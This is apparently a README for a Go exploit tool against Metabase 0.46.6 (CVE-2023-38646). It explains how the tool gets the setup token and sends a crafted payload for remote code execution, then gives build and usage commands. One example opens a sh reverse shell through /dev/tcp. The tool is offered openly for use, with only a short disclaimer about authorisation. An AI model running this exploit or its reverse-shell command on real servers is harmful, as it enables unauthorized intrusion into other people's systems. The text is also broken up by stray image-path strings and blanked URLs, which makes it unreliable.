# CVE-2023-38646
CVE-2023-38646 Metabase 0.46.6 exploit

This tool exploits a vulnerability (CVE-2023-38646) in a software platform. The exploit allows for remote code execution via a crafted request, leveraging a mishandled database connection string.

##  Overview

The tool:
- Fetches the setup token from the target URL.
- Base64 encodes thesupplied command.
- Constructs the payload with the encoded command.
- Sends the payload to exploit the vulnerability.

## Installation

Clone the repository:
git clone
cd CVE-2023-38646
go build -o exploit
chmod +x exploit

## Usage

./exploit --url [TARGET_URL] --command [COMMAND] [--proxy PROXY_URL]

TARGET_URL: The URL of the platform to be scanned and exploited.COMMAND: The command to be executed on the target.
PROXY_URL (Optional): The URL of the proxy server (e.g., If not provided, no proxy will be used.

##Example with a sh reverse shell

./exploit --url --command 'sh -i >& /dev/tcp/ 0>&1' --proxy

## Disclaimer

This tool is intended for educational and research purposes only. Always ensure you have proper authorization before scanning or exploiting any target. Misuse of this tool is strictly against the developer's intention and could be illegal.

## Feedback & ContributionsFeel free to open issues for any feedback, bugs,or feature requests. Pull requests are always welcome!